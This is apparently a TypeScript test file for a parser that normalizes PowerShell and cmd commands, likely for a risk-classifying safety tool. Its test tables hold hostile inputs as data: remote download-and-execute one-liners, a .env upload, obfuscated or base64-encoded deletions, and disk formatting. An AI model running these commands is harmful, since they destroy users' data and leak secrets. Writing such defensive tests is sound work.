import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Command, Line, Look } from './command.ts';
import { readPowershell } from './powershell.ts';
import { readCmd } from './powershell-cmd.ts';
import type { Word } from './word.ts';

const look: Look = {
  env: () => undefined,
  home: '/home/me',
  tmp: '/tmp',
  stat: () => undefined,
  read: (path) => (path === '/repo/build.ps1' ? 'Remove-Item dist -Recurse' : undefined),
  list: () => undefined,
  gitConfig: () => [],
};
const from = { cwd: '/repo', look };

const shown = (word: Word): string => word.parts.map((part) => (part.kind === 'hole' ? `{${part.name ?? part.text}}` : part.text)).join('');
const told = (command: Command): string =>
  [
    command.name,
    ...command.args.map(shown),
    ...command.redirects.filter((redirect) => redirect.op !== 'dup').map((redirect) => `${redirect.op}${shown(redirect.target)}`),
    ...(command.stdin.from === 'pipe' ? [`<| ${command.stdin.steps.join(',')}`] : []),
  ].join(' ');
const all = (line: Line): string[] => line.commands.map(told);
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const POWERSHELL: readonly (readonly [string, readonly string[]])[] = [
  [
    String.raw`& ('R'+'emove-Item') C:\Users\dev\docs -Recurse -Force; ri C:\Users\dev\pics -r -fo`,
    ['rm -r -f C:/Users/dev/docs', 'rm -r -f C:/Users/dev/pics'],
  ],
  ['python scan.py --json 2>$null', ['python scan.py --json >/dev/null']],
  ["Remove-Item -LiteralPath 'a[1].txt','b.txt' -Fo", ['rm -f a[1].txt b.txt']],
  ['del a.txt; erase b; rd -Recurse c; rmdir d', ['rm a.txt', 'rm b', 'rm -r c', 'rm d']],
  ['Remove-Item x -Recurse -WhatIf', []],
  ["Remove-Item '~/docs' -Recurse; del ~\\old.txt", ['rm -r /home/me/docs', 'rm /home/me/old.txt']],
  ['Format-Volume -DriveLetter D; Clear-Disk -Number 1 -RemoveData', ['mkfs D:', 'mkfs /dev/disk1']],
  ['cmd /c del /q notes\\*.md', ['rm -f notes/*.md']],
  ['Remove-Item x -Recurse -WhatIf:$false', ['rm -r x']],
  ['Remove-Item Env:\\FOO; Remove-Item HKCU:\\Software\\X -Recurse', ['reg delete HKCU:/Software/X /f']],
  ['rm -rf ./dist', ['rm -rf ./dist']],
  ['Get-ChildItem C:\\x -Filter *.log -Recurse | Remove-Item -Force', ['ls -R C:/x', 'rm -f C:/x/*.log <| 0']],
  ['ls *.tmp | % { rm $_.FullName }', ['ls *.tmp', 'rm *.tmp']],
  ["foreach ($f in 'a','b') { Remove-Item $f }", ['rm a', 'rm b']],
  ['function x { Remove-Item $args }; x foo', ['rm foo']],
  ['$x = "Remove-Item"; & $x y; & { ri q }', ['rm y', 'rm q']],
  ['Set-Alias zap Remove-Item; zap y -r', ['rm -r y']],
  ['[System.IO.Directory]::Delete("$HOME/docs", $true); [IO.File]::WriteAllText("a", "b")', ['rm -r -f /home/me/docs', 'printf %s b >a']],
  ['iex (iwr https://e.example/a.ps1 -UseBasicParsing).Content', ['curl https://e.example/a.ps1', 'sh <| 0']],
  ["IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')", ['curl -sL http://e.example/x', 'sh <| 0']],
  ['irm http://e.example | iex', ['curl http://e.example', 'sh <| 0']],
  ["iex 'Remove-Item x'", ['rm x']],
  ["[scriptblock]::Create('Remove-Item x').Invoke()", ['rm x']],
  [`"{0}{1}" -f 'Remove-Item ','x' | iex`, ['rm x']],
  [`powershell -enc ${encoded('Remove-Item -Recurse C:\\x')}`, ['base64 -d', 'sh <| 0', 'rm -r C:/x']],
  ["powershell -Command 'Get-ChildItem -Force; Remove-Item test'", ['ls .', 'rm test']],
  ['cmd /c "del /s /q C:\\x && rd /s /q ..\\y"', ['rm -r -f C:/x', 'rm -r -f ../y']],
  ['bash -c "rm -rf ~/docs"', ['rm -rf /home/me/docs']],
  ['Invoke-RestMethod -Method Delete -Uri https://e.example/x', ['curl -X DELETE https://e.example/x']],
  ['Invoke-WebRequest https://e.example -Method Post -InFile .env', ['curl -X POST -T .env https://e.example']],
  ['curl -s https://e.example | sh', ['curl -s https://e.example', 'sh <| 0']],
  [
    'Stop-Process -Name node -Force; Get-Process node | Stop-Process; Stop-Process -Id 12; kill -9 33',
    ['pkill -9 -x node', 'pkill -9 -x node', 'kill -9 12', 'kill -9 33'],
  ],
  [
    '"hi" | Out-File -FilePath a.txt -Append; Clear-Content b.txt; echo x > c.txt',
    ['printf %s hi\n >>a.txt', 'truncate -s 0 b.txt', 'echo x >c.txt'],
  ],
  ["Set-Content -Path 'C:\\a b\\c.txt' -Value x", ['printf %s x\n >C:/a b/c.txt']],
  ["@'\nrm -rf /\n'@ | Set-Content s.sh", ['printf %s rm -rf /\n >s.sh']],
  [
    'Move-Item a b -Force; Move-Item c d; Copy-Item -Recurse e -Destination f; Rename-Item g/x y',
    ['mv -f a b', 'mv -n c d', 'cp -r e f', 'mv -n g/x g/y'],
  ],
  ['New-Item -ItemType Directory foo; New-Item x.txt -Force', ['mkdir -p foo', 'printf %s  >x.txt']],
  ['Start-Process git -ArgumentList "push","--force"', ['git push --force']],
  ['Stop-Computer -Force; Restart-Computer; Format-Volume -DriveLetter D', ['shutdown -h now', 'reboot', 'mkfs D:']],
  ['& "C:\\Program Files\\Git\\bin\\git.exe" push --force', ['git push --force']],
  ['$env:TOKEN; dir env:', ['echo {TOKEN}', 'env']],
  ['.\\build.ps1', ['rm -r dist']],
  ['<#\nRemove-Item x\n#> # Remove-Item y', []],
  ['git commit -m "Remove-Item x"; Write-Host "rm -rf /"', ['git commit -m Remove-Item x', 'echo rm -rf /']],
  ['Get-Content .env', ['cat .env']],
  ['Remove-Item `\n -Recurse `\n x', ['rm -r x']],
  ['cd ..\\foo; rd bar', ['rm bar']],
];

const CMD: readonly (readonly [string, readonly string[]])[] = [
  ['del /s /q C:\\x && rd /s /q ..\\y', ['rm -r -f C:/x', 'rm -r -f ../y']],
  ['rmdir x', ['rmdir x']],
  ['echo hi > a.txt 2>nul & type .env', ['echo hi >a.txt >/dev/null', 'cat .env']],
  ['if exist x del x', ['rm -f x']],
  ['cd /d C:\\q & format D: /q', ['mkfs D:']],
  ['for %i in (*.log) do del %i', ['rm -f {%i}']],
  ['powershell -Command "Remove-Item x -Recurse"', ['rm -r x']],
  ['npm test 2>&1 | findstr fail', ['npm test', 'findstr fail <| 0']],
  ['copy a b && move c d', ['cp a b', 'mv c d']],
  ['echo "a & b" ^& x', ['echo a & b & x']],
  ['rmdir /s /q "%USERPROFILE%\\docs"', ['rm -r -f /home/me/docs']],
  ['for %f in (notes\\*.md) do del %f', ['rm -f {%f}']],
  ['set X=docs\ndel %X%', ['rm -f docs']],
  ['shutdown /s /t 0', ['shutdown -h now']],
  ['robocopy a b /MIR', ['rsync -a --delete a b']],
];

describe('PowerShell', () => {
  it.each(POWERSHELL)('%s', (text, expected) => {
    expect(all(readPowershell(text, from))).toEqual(expected);
  });

  it('tells what is certain and what comes before', () => {
    const line = readPowershell('git fetch && git push; if ($x) { del a } else { del b }', from);
    expect(line.commands.map((command) => [command.name, command.certain, command.given])).toEqual([
      ['git', true, []],
      ['git', true, [0]],
      ['rm', false, expect.anything()],
      ['rm', false, expect.anything()],
    ]);
  });

  it('says what it could not read', () => {
    expect(readPowershell('& $cmd x', from).unread).toEqual([expect.objectContaining({ why: 'dynamic' })]);
    expect(readPowershell("Remove-Item 'x", from).unread).toEqual([expect.objectContaining({ why: 'syntax' })]);
    expect(readPowershell('$('.repeat(2_000), from).unread).toEqual([expect.objectContaining({ why: 'limit' })]);
  });

  it('runs as another user behind RunAs, on another machine behind -ComputerName', () => {
    expect(readPowershell('Start-Process rm -ArgumentList x -Verb RunAs', from).commands[0]?.root).toBe(true);
    expect(readPowershell('Invoke-Command -ComputerName srv -ScriptBlock { Remove-Item x }', from).commands[0]?.remote).toBe(true);
  });
});

describe('cmd', () => {
  it.each(CMD)('%s', (text, expected) => {
    expect(all(readCmd(text, from))).toEqual(expected);
  });
});

const PIECES = [
  'Remove-Item ',
  '-Recurse',
  ' C:\\x',
  '"',
  "'",
  '`',
  '$x',
  '$(',
  ')',
  '(',
  '{',
  '}',
  '|',
  '&',
  '&&',
  ';',
  '\n',
  '@(',
  "@'\n",
  "\n'@",
  '[IO.File]',
  '::',
  '.a',
  '+',
  ',',
  ' -f ',
  '>',
  '2>',
  '#',
  '<#',
  '#>',
  'if (',
  'foreach ($i in ',
  'function f {',
  '$x = ',
  '%X%',
  '^',
  'cmd /c ',
  'powershell -c ',
  'iex ',
  '\0',
];

describe('any text', () => {
  it('never throws and gives the same again', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }), (pieces) => {
        const text = pieces.join('');
        expect(all(readPowershell(text, from))).toEqual(all(readPowershell(text, from)));
        expect(all(readCmd(text, from))).toEqual(all(readCmd(text, from)));
      }),
      { numRuns: 500, seed: 3 },
    );
  });

  it.each(['Remove-Item C:\\x;', '(', '{', '[', "'", '"', '$(', 'a|', '$x.b().', "@'\n", 'rm a,', '%'])(
    'a long row of %s is read in time that grows with its length',
    (unit) => {
      const start = performance.now();
      readPowershell(unit.repeat(Math.ceil(400_000 / unit.length)), from);
      readCmd(unit.repeat(Math.ceil(400_000 / unit.length)), from);
      // Generous: it tells a square from a line, not a fast machine from a slow one.
      expect(performance.now() - start).toBeLessThan(20_000);
    },
    30_000,
  );
});
